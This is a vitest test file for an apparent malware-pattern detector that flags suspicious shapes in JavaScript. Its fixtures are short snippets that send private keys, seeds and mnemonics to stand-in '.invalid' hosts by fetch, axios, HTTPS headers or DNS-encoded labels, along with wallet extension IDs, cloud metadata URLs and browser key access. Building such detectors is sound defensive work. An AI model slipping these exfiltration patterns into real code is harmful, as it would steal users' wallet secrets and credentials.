import { describe, expect, it } from 'vitest';
import { extractFileFacts } from '../extract-file.js';

/** Test sources write `#{x}` for a template placeholder (`${x}` in a string trips the linter). */
const js = (source: string): string => source.replaceAll('#{', '${');

const shapesIn = (source: string, only?: string) =>
  extractFileFacts('a.js', js(source)).facts.flatMap((fact) =>
    fact.kind === 'shape' && (only === undefined || fact.shape === only)
      ? [{ shape: fact.shape, detail: fact.detail }]
      : [],
  );

describe('secret-to-network shape', () => {
  it.each([
    "function f(secretKey) { fetch('https://rpc.invalid', { headers: { 'x-id': Buffer.from(secretKey).toString('hex') } }); }",
    "const axios = require('axios'); const send = (seed) => axios.post('https://x.invalid', { seed });",
    "const https = require('https'); function g(w) { https.request(`https://x.invalid/?k=#{w.privateKey}`); }",
    'async function m(mnemonic) { await fetch(url, { body: JSON.stringify({ phrase: mnemonic.trim() }) }); }',
  ])('reports %s', (source) => {
    expect(shapesIn(source, 'secret-to-network')).toHaveLength(1);
  });

  it.each([
    'function f(secretKey) { return sign(secretKey, data); }',
    "fetch('https://api.invalid', { headers: { authorization: token } })",
    "const privateKey = load(); cache.set('https://x.invalid', { privateKey });",
    'fetch(seeded)',
  ])('is silent for %s', (source) => {
    expect(shapesIn(source, 'secret-to-network')).toEqual([]);
  });
});

describe('covert-header shape', () => {
  it('reports a CDN response header set from a variable', () => {
    expect(shapesIn("fetch(u, { headers: { 'CF-Ray': k, Accept: 'x' } })", 'covert-header')).toEqual([
      { shape: 'covert-header', detail: 'CF-Ray header set from a computed value' },
    ]);
  });
  it('reports a CloudFront id header set from a variable', () => {
    expect(shapesIn("({ 'x-amz-cf-id': key })", 'covert-header')).toHaveLength(1);
  });
  it.each(["({ 'cf-ray': 'abc' })", "({ 'x-session-id': id })", '({ ray: id })'])('is silent for %s', (s) => {
    expect(shapesIn(s, 'covert-header')).toEqual([]);
  });
});

describe('hardcoded-oauth-secret shape', () => {
  it('reports a refresh token literal', () => {
    expect(
      shapesIn(
        "new Dropbox({ clientId: 'a', refreshToken: 'FIXTURE-NOT-A-TOKEN-1234567890' })",
        'hardcoded-oauth-secret',
      ),
    ).toEqual([{ shape: 'hardcoded-oauth-secret', detail: 'refresh token literal (30 characters)' }]);
  });
  it.each([
    "({ refreshToken: 'YOUR_REFRESH_TOKEN_HERE_PLEASE' })",
    '({ refreshToken: token })',
    "({ client_secret: 'short' })",
    '({ clientSecret: process.env.SECRET })',
  ])('is silent for %s', (s) => {
    expect(shapesIn(s, 'hardcoded-oauth-secret')).toEqual([]);
  });
});

describe('secret-format-regex shape', () => {
  it('names the token formats of a regex literal and of new RegExp', () => {
    expect(
      shapesIn(
        "const a = /gh[pousr]_[A-Za-z0-9]{36}/g; const b = new RegExp('npm_[A-Za-z0-9]{36}'); const c = /(?:AKIA|ASIA)[0-9A-Z]{16}/;",
        'secret-format-regex',
      ).map((s) => s.detail),
    ).toEqual(['github', 'npm', 'aws']);
  });
  it.each(['/^[a-z]+$/', '/ghost_[a-z]/', 'new RegExp(x)', '/xox/'])('is silent for %s', (s) => {
    expect(shapesIn(s, 'secret-format-regex')).toEqual([]);
  });
});

describe('dns-encoded-label shape', () => {
  it.each([
    "const dns = require('dns'); dns.lookup(`#{Buffer.from(d).toString('hex')}.x.invalid`, cb);",
    "const dns = require('dns'); dns.resolve4(base32.encode(chunk) + '.x.invalid', cb);",
  ])('reports %s', (source) => {
    expect(shapesIn(source, 'dns-encoded-label')).toHaveLength(1);
  });
  it.each([
    "const dns = require('dns'); dns.lookup(`#{host}.local`, cb);",
    "const dns = require('dns'); dns.lookup(hostname, cb);",
    "lookup(`#{Buffer.from(d).toString('hex')}.x.invalid`)",
  ])('is silent for %s', (source) => {
    expect(shapesIn(source, 'dns-encoded-label')).toEqual([]);
  });
});

describe('indicator strings', () => {
  it('reports metadata hosts, wallet ids, RPC methods and dead drops once per value', () => {
    const source = [
      "get('http://metadata.google.internal/computeMetadata/v1/instance');",
      "const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];",
      "rpc({ method: 'eth_call' }); rpc({ method: 'eth_call' });",
      'const t = `#{home}/.vault-token`;',
      "fetch('https://pastebin.com.invalid/raw/FIXTURE');",
      'new ListSecretsCommand({});',
    ].join('\n');
    expect(shapesIn(source).map((s) => s.shape)).toEqual([
      'cloud-metadata-endpoint',
      'wallet-extension-id',
      'wallet-extension-id',
      'chain-rpc-call',
      'vault-token-path',
      'dead-drop-host',
      'secret-store-api',
    ]);
  });
  it.each([
    "'eth_call is a JSON-RPC method name used by this wallet library'",
    "'metadata'",
    "'https://pastebin.com/'",
  ])('is silent for %s', (s) => {
    expect(shapesIn(s)).toEqual([]);
  });
});

describe('secret-to-network through a local helper', () => {
  it.each([
    [
      'helper declared after the call',
      'class Keypair { constructor(secretKey) { addToQueue(Buffer.from(secretKey).toString("hex")); } }\nfunction addToQueue(k) { fetch("https://q.invalid", { headers: { "x-amz-cf-id": k } }); }',
    ],
    [
      'method helper declared before the call',
      'class W { send(v) { return fetch("https://q.invalid/" + v); }\n check(seed) { this.send(seed); } }',
    ],
  ])('reports the secret at the call site: %s', (_, source) => {
    expect(shapesIn(source, 'secret-to-network')).toHaveLength(1);
  });

  it.each([
    'function post(body) { fetch("https://api.invalid", { body }); }\nfunction sign(privateKey) { return post(signWith(privateKey)); }',
    'function post(url, body) { fetch(url, { body }); }\nfunction f(privateKey) { post(privateKey.publicUrl); }',
    'function post(body) { return body.length; }\nfunction f(secretKey) { post(secretKey); }',
  ])('is silent for %s', (source) => {
    expect(shapesIn(source, 'secret-to-network')).toEqual([]);
  });
});

describe('secret-to-network through a local options object', () => {
  it.each([
    [
      'const options object (xrpl 4.2.1)',
      'function check(seed) { const config = { method: "POST", headers: { "ad-referral": seed } }; fetch(url, config); }',
      'seed sent by fetch',
    ],
    [
      'headers object spread into let options',
      'function f(privateKey) { const headers = { "x-id": Buffer.from(privateKey).toString("hex") }; let opts = { ...defaults, headers }; fetch(url, opts); }',
      'privateKey sent by fetch',
    ],
    [
      'https.request options',
      'const https = require("https"); function f(mnemonic) { const body = JSON.stringify({ m: mnemonic }); const req = https.request(u, { method: "POST" }); req.end(body); https.request({ path: "/?" + body }); }',
      'mnemonic sent by https.request',
    ],
  ])('reports %s', (_, source, detail) => {
    expect(shapesIn(source, 'secret-to-network')).toEqual([{ shape: 'secret-to-network', detail }]);
  });

  it("upgrades a helper parameter named `seed` to its caller's `privateKey`", () => {
    const source = [
      'class Wallet { constructor(publicKey, privateKey) { checkValidityOfSeed(privateKey); } }',
      'function checkValidityOfSeed(seed) {',
      '  const config = { method: "POST", headers: { "ad-referral": seed } };',
      '  fetch(new URL("https://x.invalid/xc"), config);',
      '}',
    ].join('\n');
    expect(shapesIn(source, 'secret-to-network').map((s) => s.detail)).toEqual([
      'privateKey sent by fetch in checkValidityOfSeed()',
      'seed sent by fetch',
    ]);
  });

  it.each([
    // The options were given the secret in another function, or after the request.
    'function a(privateKey) { const config = { headers: { k: privateKey } }; return config; }\nfunction b() { const config = {}; fetch(url, config); }',
    'function f(privateKey) { let config = { headers: {} }; fetch(url, config); config = { k: privateKey }; }',
    // A parameter shadows an outer options object.
    'const config = { body: privateKey };\nfunction f(config) { fetch(url, config); }',
    // Reassigned to something that does not carry it; signed, not sent.
    'function f(privateKey) { let config = { body: privateKey }; config = { body: sign(privateKey) }; fetch(url, config); }',
    'function f(secretKey) { const signature = sign(secretKey); const config = { body: signature }; fetch(url, config); }',
  ])('is silent for %s', (source) => {
    expect(shapesIn(source, 'secret-to-network')).toEqual([]);
  });
});

describe('command fragments', () => {
  it('reports a curl form-file fragment and an archive command split across strings', () => {
    const source = "const a = ['curl -s -X POST ', '\" -F \"file=@', 'zip -qr ', 'tar -xzf x.tgz'];";
    expect(shapesIn(source).map((s) => [s.shape, s.detail])).toEqual([
      ['curl-file-upload', '" -F "file=@'],
      ['archive-command', 'zip -qr '],
    ]);
  });
});

describe('browser key access', () => {
  it("reports Chrome's Local State key holder as a member name, not a JWE field", () => {
    expect(shapesIn('const k = JSON.parse(s).os_crypt.encrypted_key;', 'browser-key-access')).toEqual([
      { shape: 'browser-key-access', detail: 'os_crypt' },
    ]);
    expect(shapesIn("const k = jwe.encrypted_key; const f = 'encrypted_key';", 'browser-key-access')).toEqual(
      [],
    );
  });
});

describe('bounded look into arguments', () => {
  it('looks only a few levels into an argument (work per call is bounded)', () => {
    const nested = (depth: number) => `${'[x, '.repeat(depth)}privateKey${']'.repeat(depth)}`;
    expect(shapesIn(`fetch(u, ${nested(2)})`, 'secret-to-network')).toHaveLength(1);
    expect(shapesIn(`fetch(u, ${nested(40)})`, 'secret-to-network')).toEqual([]);
  });
});

describe('secret-to-network on client instances', () => {
  it('names a body-sending verb on an unresolved object as a client instance', () => {
    expect(
      shapesIn("const c = axios.create({ baseURL: u }); c.post('/k', { privateKey });", 'secret-to-network'),
    ).toEqual([{ shape: 'secret-to-network', detail: 'privateKey sent by <client>.post' }]);
  });
  it.each(['list.push(privateKey)', 'store.get(privateKey)', "emitter.emit('key', privateKey)"])(
    'is silent for %s',
    (source) => {
      expect(shapesIn(source, 'secret-to-network')).toEqual([]);
    },
  );
});
